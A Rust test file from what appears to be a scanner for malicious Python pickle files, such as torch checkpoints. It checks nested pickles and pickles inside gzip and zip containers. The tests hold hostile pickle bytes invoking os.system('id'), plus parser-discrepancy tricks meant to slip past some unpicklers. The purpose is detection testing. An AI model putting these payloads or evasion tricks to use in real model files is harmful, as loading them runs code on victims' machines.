        b"\x80\x04",
        &s("torch.storage"),
        &s("_load_from_bytes"),
        b"\x93",
        &length,
        payload,
        b"\x85R.",
    ])
}

#[test]
fn a_nested_pickle_in_bytes_is_judged_by_what_it_holds() {
    // Plain data inside: the load and its reference are safe, the file passes.
    let clean = load_from_bytes(b"\x80\x02]q\x00(K\x01K\x02e.");
    assert_eq!(verdict(&clean), Verdict::Clean, "{:#?}", findings(&clean));
    assert!(findings(&clean).iter().all(|f| f.1 == Class::Safe));
    // A legacy torch checkpoint inside (five pickles), as torch writes a storage.
    let legacy =
        std::fs::read(common::repo().join("tests/fixtures/torch/state_dict_legacy.pt")).unwrap();
    assert_eq!(verdict(&load_from_bytes(&legacy)), Verdict::Clean);
    // A payload inside: the call is dangerous and says what the nested pickle runs.
    let hostile = load_from_bytes(b"cos\nsystem\n(S'id'\ntR.");
    let scan = FileScan::of(&hostile, &LoadOptions::scanning(), false);
    assert_eq!(scan.verdict(), Verdict::Dangerous);
    let call = scan
        .findings()
        .find(|f| f.kind == FindingKind::Call)
        .unwrap();
    assert_eq!(call.class, Class::Dangerous);
    assert!(call.reason.contains("os.system('id')"), "{}", call.reason);
    // A call off the allow list inside: not allowed, not clean.
    let unknown = load_from_bytes(b"cmypkg\nModel\n)R.");
    assert_eq!(verdict(&unknown), Verdict::NotAllowed);
    // Bytes that are not a pickle: torch.load fails on them, but they are never clean.
    let garbage = load_from_bytes(b"\x80\x02]q\x00(K\x01");
    assert_ne!(verdict(&garbage), Verdict::Clean);
}

#[test]
fn nested_pickles_in_bytes_are_opened_only_a_few_levels_deep() {
    let mut payload = b"\x80\x02]q\x00.".to_vec();
    for _ in 0..3 {
        payload = load_from_bytes(&payload);
    }
    assert_eq!(verdict(&payload), Verdict::Clean);
    for _ in 0..3 {
        payload = load_from_bytes(&payload);
    }
    // Six levels: the deepest are not opened, so the file does not pass.
    assert_eq!(verdict(&payload), Verdict::NotAllowed);
}

/// Pickles inside a container (a gzip stream, a zip member) are read as each of CPython's
/// unpicklers reads them too, as a plain pickle file is: `pickle._Unpickler(gzip.open(f))`
/// resolves what the pure-Python unpickler's reading of the bytes holds.
#[test]
fn pickles_inside_containers_get_the_union_of_cpythons_readings() {
    use std::io::Write;
    let inputs: [&[u8]; 3] = [
        // FRAME claims 100 bytes, 12 follow: only pickle._Unpickler reads on.
        b"\x80\x04\x95\x64\x00\x00\x00\x00\x00\x00\x00cos\nsystem\n.",
        // A GLOBAL without its last newline: pickle._Unpickler drops the last character.
        b"\x80\x02cos\nsystemx",
        // STOP inside a frame: pickle._Unpickler's next load starts after the frame.
        b"\x95\x05\x00\x00\x00\x00\x00\x00\x00N.cos\nsystem\n.cos\nsystem\n.",
    ];
    for raw in inputs {
        let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
        gzip.write_all(raw).unwrap();
        let gzip = gzip.finish().unwrap();
        let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
        let stored = zip::write::SimpleFileOptions::default()
            .compression_method(zip::CompressionMethod::Stored);
        zip.start_file("model.pkl", stored).unwrap();
        zip.write_all(raw).unwrap();
        let zip = zip.finish().unwrap().into_inner();
        let names = |bytes: &[u8]| -> Vec<String> {
            let mut names: Vec<String> = scan_file(bytes, false)
                .findings()
                .filter_map(|f| f.name.clone())
                .collect();
            names.sort();
            names.dedup();
            names
        };
        let plain = names(raw);
        assert!(plain.contains(&"os.system".to_string()), "{plain:?}");
        assert_eq!(names(&gzip), plain, "gzip of {raw:?}");
        assert_eq!(names(&zip), plain, "zip member {raw:?}");
        assert_eq!(scan_file(&gzip, false).verdict(), Verdict::Dangerous);
    }
    // CPython: the pure-Python unpickler over a gzip file object asks for os.system.
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("short.pkl.gz");
    let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    gzip.write_all(inputs[0]).unwrap();
    std::fs::write(&path, gzip.finish().unwrap()).unwrap();
    let script = r#"
import gzip, pickle, sys
asked = []
class Recording(pickle._Unpickler):
    def find_class(self, module, name):
        asked.append(module + "." + name)
        return None
try:
    Recording(gzip.open(sys.argv[1])).load()
except Exception:
    pass
print(asked)
"#;
    let out = std::process::Command::new("python3")
        .args(["-c", script])
        .arg(&path)
        .output()
        .unwrap();
    assert_eq!(String::from_utf8_lossy(&out.stdout).trim(), "['os.system']");
}
